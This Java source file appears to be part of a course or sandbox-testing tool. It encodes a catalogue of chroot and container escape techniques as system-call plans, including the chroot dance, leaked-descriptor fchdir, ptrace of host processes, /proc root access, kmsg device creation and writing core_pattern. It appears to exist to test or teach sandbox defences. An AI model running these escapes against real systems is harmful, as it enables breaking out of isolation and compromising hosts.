package slipway.attack;

import static slipway.linux.Constants.AF_UNIX;
import static slipway.linux.Constants.AT_FDCWD;
import static slipway.linux.Constants.O_RDONLY;
import static slipway.linux.Constants.O_WRONLY;
import static slipway.linux.Constants.SOCK_STREAM;
import static slipway.linux.Constants.S_IFCHR;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import slipway.linux.Arg;
import slipway.linux.Call;
import slipway.linux.Errno;
import slipway.linux.Family;
import slipway.linux.Syscall;
import slipway.plan.Do;
import slipway.plan.Plan;
import slipway.plan.Step;

/** The ways out, each as the system calls that it consists of. */
public enum Attack {
    RELATIVE_PATH("walk up from a working directory that was left outside", "F1") {
        @Override
        List<Step> steps(Scene scene) {
            return tell(UP + scene.secret().substring(1));
        }
    },
    // tag::dance[]
    CHROOT_DANCE("chroot again, and walk up past the root", "F2") {
        @Override
        List<Step> steps(Scene scene) {
            List<Step> steps = new ArrayList<>();
            steps.add(folder("out"));
            steps.add(call("make it the root; we stay outside", Syscall.CHROOT, Arg.text("out")));
            steps.add(call("walk up", Syscall.CHDIR, Arg.text(UP)));
            steps.add(call("make what is there the root", Syscall.CHROOT, Arg.text(".")));
            steps.addAll(tell(scene.secret()));
            return steps;
        }
    },
    // end::dance[]
    LEAKED_DESCRIPTOR("go back through a descriptor opened before", "F3") {
        @Override
        List<Step> steps(Scene scene) {
            List<Step> steps = new ArrayList<>();
            steps.add(call("go through it", Syscall.FCHDIR, Arg.num(Scene.LEAKED)));
            steps.addAll(tell(scene.secret().substring(1)));
            return steps;
        }
    },
    OLD_ROOT("look for the old root where pivot_root put it", "F5") {
        @Override
        List<Step> steps(Scene scene) {
            return tell(scene.oldRoot() + scene.secret());
        }
    },
    ROOT_OF_A_PROCESS("mount a proc and look through a process's root", "F7") {
        @Override
        List<Step> steps(Scene scene) {
            List<Step> steps = new ArrayList<>(mountProc());
            steps.addAll(tell("p/" + scene.victim() + "/root" + scene.secret()));
            return steps;
        }
    },
    SIGNAL_THE_HOST("signal a process of the host", "F7") {
        @Override
        List<Step> steps(Scene scene) {
            return List.of(
                    call(
                            "ask whether it may be signalled",
                            Syscall.KILL,
                            Arg.num(scene.victim()),
                            Arg.num(0)));
        }
    },
    TRACE_THE_HOST("trace a process of the host", "F7") {
        @Override
        List<Step> steps(Scene scene) {
            return List.of(
                    call(
                            "seize it",
                            Syscall.PTRACE,
                            new Arg.Num(PTRACE_SEIZE, "PTRACE_SEIZE"),
                            Arg.num(scene.victim()),
                            Arg.NULL,
                            Arg.NULL));
        }
    },
    ABSTRACT_SOCKET("connect to an abstract socket of the host", "F16") {
        @Override
        List<Step> steps(Scene scene) {
            byte[] name = scene.socket().getBytes(StandardCharsets.UTF_8);
            byte[] address = new byte[3 + name.length];
            address[0] = AF_UNIX;
            System.arraycopy(name, 0, address, 3, name.length);
            return List.of(
                    call(
                                    "have a socket",
                                    Syscall.SOCKET,
                                    Arg.flag(AF_UNIX, Family.SOCKET_DOMAIN),
                                    Arg.flag(SOCK_STREAM, Family.SOCKET_TYPE),
                                    Arg.num(0))
                            .as("socket"),
                    call(
                            "connect it",
                            Syscall.CONNECT,
                            Arg.result("socket"),
                            new Arg.Bytes(
                                    address, "{AF_UNIX, sun_path=@\"" + scene.socket() + "\"}"),
                            Arg.num(address.length)));
        }
    },
    KERNEL_MEMORY("make a device node for the kernel's log and open it", "mknod") {
        @Override
        List<Step> steps(Scene scene) {
            return List.of(
                    call(
                            "make it",
                            Syscall.MKNODAT,
                            HERE,
                            Arg.text("kmsg"),
                            new Arg.Num(S_IFCHR | 0600, "S_IFCHR|0600"),
                            new Arg.Num(1 << 8 | 11, "makedev(1, 11)")),
                    open("open it", "kmsg", O_RDONLY));
        }
    },
    NAME_THE_HOST("give the host a name", "F17") {
        @Override
        List<Step> steps(Scene scene) {
            // The name that it has: enough to know, and nothing changes where it succeeds. What it
            // was called before tells whether it was the host.
            Arg names = new Arg.Bytes(new byte[UTSNAME_SIZE], "names");
            return List.of(
                    call("ask which name it has", Syscall.UNAME, names),
                    call(
                            "tell that",
                            Syscall.WRITE,
                            Arg.num(Scene.LOOT),
                            names,
                            Arg.num(UTSNAME_SIZE)),
                    call(
                            "set it",
                            Syscall.SETHOSTNAME,
                            Arg.text(scene.hostname()),
                            Arg.num(scene.hostname().length())));
        }
    },
    KERNEL_SETTING("open a setting of the whole kernel for writing", "masked") {
        @Override
        List<Step> steps(Scene scene) {
            List<Step> steps = new ArrayList<>(mountProc());
            steps.add(open("open it", "p/sys/kernel/core_pattern", O_WRONLY));
            return steps;
        }
    };

    private static final int PTRACE_SEIZE = 0x4206;
    private static final int UTSNAME_SIZE = 6 * 65;
    private static final int DEPTH = 32;
    private static final String UP = up();
    private static final Arg HERE = Arg.flag(AT_FDCWD, Family.DIRFD);
    private static final int MUCH = 4096;

    private final String does;
    private final String fact;

    Attack(String does, String fact) {
        this.does = does;
        this.fact = fact;
    }

    /** What it does, in a few words. */
    public String does() {
        return does;
    }

    /** The kernel fact that it rests on, by its number in the course. */
    public String fact() {
        return fact;
    }

    /** Its name as people write it. */
    public String label() {
        return name().toLowerCase(java.util.Locale.ROOT).replace('_', '-');
    }

    abstract List<Step> steps(Scene scene);

    /** The whole program: it ends with status 0 if every step worked. */
    Plan plan(Scene scene) {
        List<Step> steps = new ArrayList<>(steps(scene));
        steps.add(call("report success", Syscall.EXIT_GROUP, Arg.num(0)));
        return new Plan(steps);
    }

    /** Reads a file and writes it out, which is the proof. */
    private static List<Step> tell(String path) {
        return List.of(
                open("open the secret", path, O_RDONLY).as("secret"),
                call(
                        "tell it",
                        Syscall.SENDFILE,
                        Arg.num(Scene.LOOT),
                        Arg.result("secret"),
                        Arg.NULL,
                        Arg.num(MUCH)));
    }

    private static Step folder(String name) {
        return call("make a folder", Syscall.MKDIRAT, HERE, Arg.text(name), Arg.mode(0755))
                .tolerating(Errno.EEXIST);
    }

    private static Do open(String why, String path, long flags) {
        Arg how = Arg.flag(flags, Family.OPEN);
        return call(why, Syscall.OPENAT, HERE, Arg.text(path), how, Arg.mode(0));
    }

    private static List<Step> mountProc() {
        return List.of(
                folder("p"),
                call(
                        "mount a proc on it",
                        Syscall.MOUNT,
                        Arg.text("proc"),
                        Arg.text("p"),
                        Arg.text("proc"),
                        Arg.flag(0, Family.MOUNT),
                        Arg.NULL));
    }

    private static Do call(String why, Syscall syscall, Arg... args) {
        return Step.call(why, new Call(syscall, Arrays.asList(args)));
    }

    private static String up() {
        StringBuilder path = new StringBuilder();
        for (int i = 0; i < DEPTH; i++) path.append("../");
        return path.toString();
    }
}
